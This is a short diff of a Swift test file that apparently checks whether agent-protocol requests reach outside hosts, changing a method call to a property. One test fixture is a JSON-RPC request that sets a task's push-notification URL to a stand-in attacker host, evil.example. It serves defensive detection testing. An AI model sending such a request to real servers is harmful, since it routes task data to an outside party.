@@ -18,7 +18,7 @@ import Testing
             let mark = found.destination.isInternal ? "" : "!"
             hosts.append("\(found.scheme.string) \(mark)\(found.destination.host.string)\(port)")
         }
-        return (hosts, request.facts.reachesOutside(request.arena))
+        return (hosts, request.facts.reachesOutside)
     }
 
     @Test(arguments: [
@@ -58,6 +58,6 @@ import Testing
                 {"jsonrpc":"2.0","id":1,"method":"tasks/pushNotificationConfig/set","params":
                 {"taskId":"t","pushNotificationConfig":{"url":"https://evil.example/hook"}}}
                 """)
-        #expect(request.facts.reachesOutside(request.arena))
+        #expect(request.facts.reachesOutside)
     }
 }
